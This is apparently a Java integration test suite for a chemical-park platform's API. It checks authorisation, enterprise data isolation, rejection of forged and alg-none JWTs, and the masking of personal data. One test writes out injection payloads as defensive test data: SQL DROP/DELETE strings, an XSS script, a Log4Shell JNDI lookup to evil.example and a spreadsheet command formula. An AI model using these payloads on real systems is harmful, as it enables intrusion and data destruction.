package org.chempark.itests;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertTrue;

import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;

import java.lang.annotation.Annotation;
import java.lang.reflect.Method;
import java.util.Base64;
import java.util.HashMap;
import java.util.TreeMap;
import java.util.TreeSet;

import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;
import javax.sql.DataSource;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.junit.Test;
import org.osgi.framework.ServiceReference;
import org.junit.runner.RunWith;
import org.ops4j.pax.exam.junit.PaxExam;
import org.ops4j.pax.exam.spi.reactors.ExamReactorStrategy;
import org.ops4j.pax.exam.spi.reactors.PerClass;

/**
 * The access matrix over EVERY operation in the OpenAPI document — so a module installed
 * later is checked without touching this test (R-S, R-I.8): anonymous → 401; a user whose role
 * grants nothing → 403 (deny by default); an enterprise user → 404 for another enterprise's
 * record and 200 for its own; a role holding the module's other permissions but not the one an
 * operation needs → 403 (the permission read from the resource's annotations); tampered,
 * expired, unsigned and revoked tokens → 401; injection strings are stored and returned as text.
 */
@RunWith(PaxExam.class)
@ExamReactorStrategy(PerClass.class)
public class SecurityMatrixIT extends ChemParkTestSupport {
    /** Operations anyone may call. */
    static final Set<String> PUBLIC = Set.of("GET /health", "GET /openapi.json", "GET /docs", "POST /auth/login", "POST /auth/refresh");
    /** Operations any logged-in user may call, whatever the role. */
    static final Set<String> ANY_USER = Set.of("GET /modules", "GET /modules/{id}", "GET /auth/me", "POST /auth/logout",
            "POST /auth/password", "GET /notify/inbox", "POST /notify/inbox/{id}/read");

    private HttpResponse<String> call(String method, String path, String token, String body) throws Exception {
        HttpRequest.Builder b = HttpRequest.newBuilder(uri(API + path)).timeout(Duration.ofSeconds(20));
        if (token != null) {
            b.header("Authorization", "Bearer " + token);
        }
        b.header("Content-Type", "application/json");
        b.method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
        return http.send(b.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
    }

    /** Logs a user in, doing the forced first password change when asked. */
    private String tokenFor(String username, String password) throws Exception {
        JsonNode login = json(call("POST", "/auth/login", null,
                JSON.createObjectNode().put("username", username).put("password", password).toString()));
        String token = login.path("accessToken").asText(null);
        assertTrue("login of " + username + ": " + login, token != null);
        if (login.path("mustChangePassword").asBoolean()) {
            String next = password + "-New9!";
            HttpResponse<String> r = call("POST", "/auth/password", token,
                    JSON.createObjectNode().put("currentPassword", password).put("newPassword", next).toString());
            assertTrue("password change of " + username + ": " + r.body(), r.statusCode() / 100 == 2);
            // the session that changed the password goes on (no second login: the login rate limit is per address)
        }
        return token;
    }

    private long createUser(String username, String password, long organisationId, String role) throws Exception {
        ObjectNode u = JSON.createObjectNode().put("username", username).put("displayName", username).put("organisationId", organisationId)
                .put("password", password);
        u.putArray("roles").add(role);
        HttpResponse<String> r = call("POST", "/security/users", token(), u.toString());
        assertEquals(r.body(), 201, r.statusCode());
        return json(r).path("user").path("id").asLong();
    }

    /** Every operation of the OpenAPI document as "METHOD /path". */
    private List<String> operations() throws Exception {
        // generating the document the first time scans every resource: slow on a busy machine
        JsonNode paths = json(http.send(authorized(HttpRequest.newBuilder(uri(API + "/openapi.json"))).timeout(Duration.ofSeconds(90)).GET()
                .build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8))).path("paths");
        List<String> ops = new ArrayList<>();
        for (Iterator<Map.Entry<String, JsonNode>> it = paths.fields(); it.hasNext();) {
            Map.Entry<String, JsonNode> p = it.next();
            p.getValue().fieldNames().forEachRemaining(m -> ops.add(m.toUpperCase(java.util.Locale.ROOT) + " " + p.getKey()));
        }
        return ops;
    }

    private static String concrete(String path) {
        return path.replaceAll("\\{[^}]+}", "1");
    }

    @Test
    public void everyOperationIsClosedToAnonymousAndToARoleWithoutPermissions() throws Exception {
        await("modules with resources", Duration.ofSeconds(90),
                () -> answers(API + "/asset/statistics", j -> j.path("totals").path("enterprises").asInt() > 0)
                        && answers(API + "/hazard/statistics", j -> j.path("units").asInt() > 0));
        List<String> ops = operations();
        assertTrue("the OpenAPI document lists the modules' operations: " + ops, ops.size() > 40);

        ObjectNode role = JSON.createObjectNode().put("code", "matrix-nothing").put("nameZh", "无权限").put("nameEn", "No permissions");
        role.putArray("permissions");
        HttpResponse<String> rr = call("POST", "/security/roles", token(), role.toString());
        assertEquals(rr.body(), 201, rr.statusCode());
        long parkOrg = json(call("GET", "/auth/me", token(), null)).path("organisationId").asLong();
        createUser("matrix-nobody", "Quartz-Ledger-2026!", parkOrg, "matrix-nothing");
        String nobody = tokenFor("matrix-nobody", "Quartz-Ledger-2026!");

        Map<String, String> wrong = new LinkedHashMap<>();
        for (String op : ops) {
            String method = op.substring(0, op.indexOf(' '));
            String path = op.substring(op.indexOf(' ') + 1);
            if (PUBLIC.contains(op)) {
                continue;
            }
            int anonymous = call(method, concrete(path), null, method.equals("GET") || method.equals("DELETE") ? null : "{}").statusCode();
            if (anonymous != 401) {
                wrong.put(op + " anonymous", String.valueOf(anonymous));
            }
            if (ANY_USER.contains(op)) {
                continue;
            }
            int noRole = call(method, concrete(path), nobody, method.equals("GET") || method.equals("DELETE") ? null : "{}").statusCode();
            if (noRole != 403) {
                wrong.put(op + " without permission", String.valueOf(noRole));
            }
        }
        assertTrue("operations that did not answer 401 (anonymous) / 403 (no permission): " + wrong, wrong.isEmpty());
    }

    @Test
    public void enterpriseUsersReachOnlyTheirOwnRecords() throws Exception {
        await("asset", Duration.ofSeconds(90), () -> answers(API + "/asset/statistics", j -> j.path("totals").path("enterprises").asInt() > 1)
                && answers(API + "/hazard/statistics", j -> j.path("units").asInt() > 0));
        JsonNode enterprises = json(get(API + "/asset/enterprises?sort=code&size=2")).path("items");
        long own = enterprises.get(1).path("id").asLong();
        long other = enterprises.get(0).path("id").asLong();
        ObjectNode org = JSON.createObjectNode().put("code", "org-matrix").put("name", enterprises.get(1).path("name").asText())
                .put("type", "ENTERPRISE").put("enterpriseId", own);
        HttpResponse<String> or = call("POST", "/security/organisations", token(), org.toString());
        assertEquals(or.body(), 201, or.statusCode());
        createUser("matrix-safety", "Copper-Valve-2026!", json(or).path("id").asLong(), "enterprise-safety");
        String safety = tokenFor("matrix-safety", "Copper-Valve-2026!");

        Map<String, long[]> records = new LinkedHashMap<>(); // path template → {own id, other id}
        records.put("/asset/enterprises/{id}", new long[] { own, other });
        long ownUnit = json(get(API + "/asset/units?enterpriseId=" + own)).path("items").get(0).path("id").asLong();
        long otherUnit = json(get(API + "/asset/units?enterpriseId=" + other)).path("items").get(0).path("id").asLong();
        records.put("/asset/units/{id}", new long[] { ownUnit, otherUnit });
        records.put("/hazard/units/{unitId}", new long[] { ownUnit, otherUnit });
        records.put("/hazard/units/{unitId}/history", new long[] { ownUnit, otherUnit });
        long ownEq = json(get(API + "/asset/equipment?unitId=" + ownUnit)).path("items").get(0).path("id").asLong();
        long otherEq = json(get(API + "/asset/equipment?unitId=" + otherUnit)).path("items").get(0).path("id").asLong();
        records.put("/asset/equipment/{id}", new long[] { ownEq, otherEq });
        long ownPoint = json(get(API + "/asset/points?enterpriseId=" + own)).path("items").get(0).path("id").asLong();
        long otherPoint = json(get(API + "/asset/points?enterpriseId=" + other)).path("items").get(0).path("id").asLong();
        records.put("/asset/points/{id}", new long[] { ownPoint, otherPoint });

        for (Map.Entry<String, long[]> e : records.entrySet()) {
            String ownPath = e.getKey().replaceAll("\\{[^}]+}", String.valueOf(e.getValue()[0]));
            String otherPath = e.getKey().replaceAll("\\{[^}]+}", String.valueOf(e.getValue()[1]));
            HttpResponse<String> mine = call("GET", ownPath, safety, null);
            assertEquals(ownPath + " " + mine.body(), 200, mine.statusCode());
            assertProblem(404, call("GET", otherPath, safety, null));
        }
        // lists hold only the own enterprise's records
        JsonNode units = json(call("GET", "/asset/units?size=500", safety, null)).path("items");
        assertTrue(units.size() > 0);
        units.forEach(u -> assertEquals(own, u.path("enterpriseId").asLong()));
        json(call("GET", "/hazard/sources?all=true", safety, null)).forEach(a -> assertEquals(own, a.path("enterpriseId").asLong()));
        // park-level data is read-only for enterprise users
        assertProblem(403, call("POST", "/asset/chemicals", safety,
                "{\"cas\":\"7732-18-5\",\"nameZh\":\"水\",\"hazardCategory\":\"W4\",\"criticalQuantityT\":1}"));
    }

    // ------------------------------------------------------------------ wrong roles, bad tokens, injection

    private static String normalise(String path) {
        String p = ("/" + path).replaceAll("/+", "/").replaceAll("\\{\\s*([A-Za-z0-9_]+)\\s*(:[^}]*)?}", "{$1}");
        return p.length() > 1 && p.endsWith("/") ? p.substring(0, p.length() - 1) : p;
    }

    private static Annotation annotation(Annotation[] all, String type) {
        for (Annotation a : all) {
            if (a.annotationType().getName().equals(type)) {
                return a;
            }
        }
        return null;
    }

    private static String value(Annotation a) throws Exception {
        return a == null ? null : (String) a.annotationType().getMethod("value").invoke(a);
    }

    /**
     * "METHOD /path" (as in the OpenAPI document) → the permission its resource method requires,
     * read from the annotations of every REST resource service running in this container.
     */
    private Map<String, String> requiredPermissions() throws Exception {
        Map<String, String> map = new TreeMap<>();
        ServiceReference<?>[] refs = bundleContext.getAllServiceReferences(null, "(chempark.rest.resource=true)");
        for (ServiceReference<?> ref : refs == null ? new ServiceReference<?>[0] : refs) {
            Object service = bundleContext.getService(ref);
            try {
                Class<?> type = service.getClass();
                String base = value(annotation(type.getAnnotations(), "javax.ws.rs.Path"));
                String classPermission = value(annotation(type.getAnnotations(), "org.chempark.sdk.security.RequiresPermission"));
                for (Method m : type.getMethods()) {
                    String verb = null;
                    for (Annotation a : m.getAnnotations()) {
                        Annotation hm = annotation(a.annotationType().getAnnotations(), "javax.ws.rs.HttpMethod");
                        if (hm != null) {
                            verb = value(hm);
                        }
                    }
                    if (verb == null) {
                        continue;
                    }
                    String sub = value(annotation(m.getAnnotations(), "javax.ws.rs.Path"));
                    String permission = value(annotation(m.getAnnotations(), "org.chempark.sdk.security.RequiresPermission"));
                    boolean otherRule = annotation(m.getAnnotations(), "org.chempark.sdk.security.Authenticated") != null
                            || annotation(m.getAnnotations(), "org.chempark.sdk.security.PublicEndpoint") != null;
                    if (permission == null && !otherRule) {
                        permission = classPermission;
                    }
                    if (permission != null) {
                        map.put(verb + " " + normalise((base == null ? "" : base) + "/" + (sub == null ? "" : sub)), permission);
                    }
                }
            } finally {
                bundleContext.ungetService(ref);
            }
        }
        return map;
    }

    private static String body(String method) {
        return method.equals("GET") || method.equals("DELETE") ? null : "{}";
    }

    @Test
    public void aRoleWithTheModulesOtherPermissionsButNotTheNeededOneIsRefused() throws Exception {
        await("modules with resources", Duration.ofSeconds(90),
                () -> answers(API + "/asset/statistics", j -> j.path("totals").path("enterprises").asInt() > 0)
                        && answers(API + "/hazard/statistics", j -> j.path("units").asInt() > 0));
        Map<String, String> required = requiredPermissions();
        Map<String, String> unresolved = new LinkedHashMap<>();
        Map<String, List<String>> byPermission = new TreeMap<>();
        for (String op : operations()) {
            if (PUBLIC.contains(op) || ANY_USER.contains(op)) {
                continue;
            }
            String key = op.substring(0, op.indexOf(' ')) + " " + normalise(op.substring(op.indexOf(' ') + 1));
            String permission = required.get(key);
            if (permission == null) {
                unresolved.put(op, "no @RequiresPermission found");
                continue;
            }
            byPermission.computeIfAbsent(permission, k -> new ArrayList<>()).add(op);
        }
        assertTrue("operations whose permission the test could not read from the resources: " + unresolved + " (known: "
                + required.keySet() + ")", unresolved.isEmpty());
        assertTrue("a module permission is needed somewhere: " + byPermission.keySet(), byPermission.size() > 5);

        Set<String> declared = new TreeSet<>();
        json(call("GET", "/security/permissions", token(), null)).forEach(p -> declared.add(p.path("id").asText()));
        ObjectNode role = JSON.createObjectNode().put("code", "matrix-partial").put("nameZh", "部分权限").put("nameEn", "Partial permissions");
        role.putArray("permissions");
        HttpResponse<String> rr = call("POST", "/security/roles", token(), role.toString());
        assertEquals(rr.body(), 201, rr.statusCode());
        long roleId = json(rr).path("id").asLong();
        long parkOrg = json(call("GET", "/auth/me", token(), null)).path("organisationId").asLong();
        createUser("matrix-partial", "Basalt-Anchor-2026!", parkOrg, "matrix-partial");
        String partial = tokenFor("matrix-partial", "Basalt-Anchor-2026!");

        Map<String, String> wrong = new LinkedHashMap<>();
        int checked = 0;
        for (Map.Entry<String, List<String>> e : byPermission.entrySet()) {
            String needed = e.getKey();
            String module = needed.substring(0, needed.indexOf(':'));
            // every permission the modules declare except the needed one; at least one of the same module when it has others
            ObjectNode r = JSON.createObjectNode().put("code", "matrix-partial").put("nameZh", "部分权限").put("nameEn", "Partial permissions");
            var perms = r.putArray("permissions");
            declared.stream().filter(p -> !p.equals(needed)).forEach(perms::add);
            HttpResponse<String> put = call("PUT", "/security/roles/" + roleId, token(), r.toString());
            assertEquals(put.body(), 200, put.statusCode());
            boolean sameModule = declared.stream().anyMatch(p -> p.startsWith(module + ":") && !p.equals(needed));
            for (String op : e.getValue()) {
                String method = op.substring(0, op.indexOf(' '));
                String path = concrete(op.substring(op.indexOf(' ') + 1));
                int status = call(method, path, partial, body(method)).statusCode();
                checked++;
                if (status != 403) {
                    wrong.put(op + " needs " + needed + (sameModule ? " (role holds other " + module + " permissions)" : ""), String.valueOf(status));
                }
            }
        }
        assertTrue("operations that did not answer 403 to a role without their permission: " + wrong, wrong.isEmpty());
        assertTrue(checked > 40);
    }

    private static String b64(byte[] b) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(b);
    }

    private byte[] signingKey() throws Exception {
        ServiceReference<DataSource> ref = bundleContext.getServiceReferences(DataSource.class, "(osgi.jndi.service.name=chempark)").iterator().next();
        DataSource ds = bundleContext.getService(ref);
        try (var c = ds.getConnection(); var ps = c.prepareStatement("SELECT secret FROM security.signing_key ORDER BY id LIMIT 1");
                var rs = ps.executeQuery()) {
            assertTrue(rs.next());
            return rs.getBytes(1);
        } finally {
            bundleContext.ungetService(ref);
        }
    }

    private static String sign(byte[] key, String header, String payload) throws Exception {
        String input = b64(header.getBytes(StandardCharsets.UTF_8)) + "." + b64(payload.getBytes(StandardCharsets.UTF_8));
        Mac mac = Mac.getInstance("HmacSHA256");
        mac.init(new SecretKeySpec(key, "HmacSHA256"));
        return input + "." + b64(mac.doFinal(input.getBytes(StandardCharsets.US_ASCII)));
    }

    @Test
    public void tamperedExpiredUnsignedAndRevokedTokensAre401Everywhere() throws Exception {
        String admin = token();
        String[] parts = admin.split("\\.");
        JsonNode claims = JSON.readTree(Base64.getUrlDecoder().decode(parts[1]));
        Map<String, String> bad = new LinkedHashMap<>();
        // the payload changed (another user id), the signature kept
        ObjectNode other = ((ObjectNode) claims.deepCopy()).put("sub", "999999");
        bad.put("tampered", parts[0] + "." + b64(JSON.writeValueAsBytes(other)) + "." + parts[2]);
        // correctly signed with the platform's own key, but past its expiry
        long now = System.currentTimeMillis() / 1000;
        ObjectNode old = ((ObjectNode) claims.deepCopy()).put("iat", now - 7200).put("exp", now - 3600);
        bad.put("expired", sign(signingKey(), "{\"alg\":\"HS256\",\"typ\":\"JWT\"}", JSON.writeValueAsString(old)));
        // alg none
        bad.put("unsigned", b64("{\"alg\":\"none\",\"typ\":\"JWT\"}".getBytes(StandardCharsets.UTF_8)) + "." + parts[1] + ".");
        // logged out
        ObjectNode r = JSON.createObjectNode().put("code", "matrix-revoked").put("nameZh", "吊销").put("nameEn", "Revoked");
        r.putArray("permissions").add("asset:read");
        assertEquals(201, call("POST", "/security/roles", admin, r.toString()).statusCode());
        long parkOrg = json(call("GET", "/auth/me", admin, null)).path("organisationId").asLong();
        createUser("matrix-revoked", "Cobalt-Harbor-2026!", parkOrg, "matrix-revoked");
        String revoked = tokenFor("matrix-revoked", "Cobalt-Harbor-2026!");
        assertEquals(200, call("GET", "/asset/enterprises", revoked, null).statusCode());
        assertEquals(204, call("POST", "/auth/logout", revoked, null).statusCode());
        bad.put("revoked", revoked);

        Map<String, String> wrong = new LinkedHashMap<>();
        for (String op : operations()) {
            if (PUBLIC.contains(op)) {
                continue;
            }
            String method = op.substring(0, op.indexOf(' '));
            String path = concrete(op.substring(op.indexOf(' ') + 1));
            for (Map.Entry<String, String> t : bad.entrySet()) {
                HttpResponse<String> res = call(method, path, t.getValue(), body(method));
                if (res.statusCode() != 401) {
                    wrong.put(op + " " + t.getKey(), String.valueOf(res.statusCode()));
                }
            }
        }
        assertTrue("operations that accepted a bad token (expected 401): " + wrong, wrong.isEmpty());
        // the refusal says why, as problem+json with WWW-Authenticate
        HttpResponse<String> expired = call("GET", "/auth/me", bad.get("expired"), null);
        assertTrue(assertProblem(401, expired).path("detail").asText().contains("expired"));
        assertTrue(expired.headers().firstValue("WWW-Authenticate").orElse("").startsWith("Bearer"));
    }

    @Test
    public void injectionStringsAreStoredAndReturnedAsText() throws Exception {
        String admin = token();
        List<String> evil = List.of("'; DROP TABLE security.user_account; --", "<script>alert('x')</script>", "${jndi:ldap://evil.example/a}",
                "{{7*7}} %s %n \\\" \u202e", "Robert'); DELETE FROM security.audit_log;--", "=cmd|' /C calc'!A0");
        Map<String, String> wrong = new HashMap<>();
        int i = 0;
        for (String s : evil) {
            i++;
            ObjectNode org = JSON.createObjectNode().put("code", "inj-" + i).put("name", s).put("type", "DEPARTMENT");
            HttpResponse<String> o = call("POST", "/security/organisations", admin, org.toString());
            assertEquals(o.body(), 201, o.statusCode());
            long orgId = json(o).path("id").asLong();
            if (!s.equals(json(call("GET", "/security/organisations/" + orgId, admin, null)).path("name").asText())) {
                wrong.put("organisation name", s);
            }
            ObjectNode role = JSON.createObjectNode().put("code", "inj-role-" + i).put("nameZh", s).put("nameEn", s).put("description", s);
            role.putArray("permissions").add("asset:read");
            HttpResponse<String> ro = call("POST", "/security/roles", admin, role.toString());
            assertEquals(ro.body(), 201, ro.statusCode());
            JsonNode back = json(call("GET", "/security/roles/" + json(ro).path("id").asLong(), admin, null));
            if (!s.equals(back.path("nameZh").asText()) || !s.equals(back.path("description").asText())) {
                wrong.put("role name/description", s);
            }
            ObjectNode u = JSON.createObjectNode().put("username", "inj.user" + i).put("displayName", s).put("organisationId", orgId);
            u.putArray("roles").add("inj-role-" + i);
            HttpResponse<String> us = call("POST", "/security/users", admin, u.toString());
            assertEquals(us.body(), 201, us.statusCode());
            if (!s.equals(json(call("GET", "/security/users/" + json(us).path("user").path("id").asLong(), admin, null)).path("displayName").asText())) {
                wrong.put("user displayName", s);
            }
            // as a search term: no match, no error
            HttpResponse<String> q = call("GET", "/security/users?q=" + java.net.URLEncoder.encode(s, StandardCharsets.UTF_8), admin, null);
            assertEquals(q.body(), 200, q.statusCode());
        }
        assertTrue("text changed on the way through: " + wrong, wrong.isEmpty());
        // the tables are all still there
        assertEquals(200, call("GET", "/security/users?size=1", admin, null).statusCode());
        HttpResponse<String> verify = call("GET", "/security/audit/verify", admin, null);
        assertEquals(verify.body(), 200, verify.statusCode());
        HttpResponse<String> sqlQ = call("GET", "/security/users?q=" + java.net.URLEncoder.encode("' OR '1'='1", StandardCharsets.UTF_8), admin, null);
        assertEquals(0, json(sqlQ).path("total").asLong());
    }

    @Test
    public void personalDataIsValidatedEncryptedAndMaskedWithoutThePermission() throws Exception {
        String admin = token();
        long parkOrg = json(call("GET", "/auth/me", admin, null)).path("organisationId").asLong();
        ObjectNode bad = JSON.createObjectNode().put("username", "pii-bad").put("displayName", "pii").put("organisationId", parkOrg)
                .put("idCard", "110105194912310021");
        bad.putArray("roles");
        JsonNode problem = assertProblem(422, call("POST", "/security/users", admin, bad.toString()));
        assertEquals(problem.toString(), "idCard", problem.path("errors").get(0).path("field").asText());
        assertEquals(problem.toString(), "checkCharacter", problem.path("errors").get(0).path("rule").asText());

        ObjectNode role = JSON.createObjectNode().put("code", "pii-reader").put("nameZh", "用户查看").put("nameEn", "User reader");
        role.putArray("permissions").add("security:read");
        assertEquals(201, call("POST", "/security/roles", admin, role.toString()).statusCode());
        ObjectNode u = JSON.createObjectNode().put("username", "pii-person").put("displayName", "张三").put("organisationId", parkOrg)
                .put("mobile", "13812345678").put("idCard", "11010519491231002x");
        u.putArray("roles").add("pii-reader");
        HttpResponse<String> created = call("POST", "/security/users", admin, u.toString());
        assertEquals(created.body(), 201, created.statusCode());
        long id = json(created).path("user").path("id").asLong();
        // park-admin holds security:sensitive-read (through "*")
        JsonNode full = json(call("GET", "/security/users/" + id, admin, null));
        assertEquals("13812345678", full.path("mobile").asText());
        assertEquals("11010519491231002X", full.path("idCard").asText());
        // a reader without it sees them masked, in the record and in the list
        createUser("pii-viewer", "Jade-Window-2026!", parkOrg, "pii-reader");
        String viewer = tokenFor("pii-viewer", "Jade-Window-2026!");
        JsonNode masked = json(call("GET", "/security/users/" + id, viewer, null));
        assertEquals("138****5678", masked.path("mobile").asText());
        assertEquals("110***********002X", masked.path("idCard").asText());
        assertTrue(call("GET", "/security/users?q=pii-person", viewer, null).body().contains("138****5678"));
        assertTrue(!call("GET", "/security/users?size=200", viewer, null).body().contains("13812345678"));
        // at rest: ciphertext only
        ServiceReference<DataSource> ref = bundleContext.getServiceReferences(DataSource.class, "(osgi.jndi.service.name=chempark)").iterator().next();
        DataSource ds = bundleContext.getService(ref);
        try (var c = ds.getConnection(); var ps = c.prepareStatement("SELECT mobile_enc, id_card_enc, row_to_json(u)::text FROM security.user_account u "
                + "WHERE id = ?")) {
            ps.setLong(1, id);
            try (var rs = ps.executeQuery()) {
                assertTrue(rs.next());
                assertTrue(rs.getBytes(1).length > 11 && rs.getBytes(2).length > 18);
                String row = rs.getString(3);
                assertTrue(row, !row.contains("13812345678") && !row.contains("194912310"));
            }
        } finally {
            bundleContext.ungetService(ref);
        }
    }
}
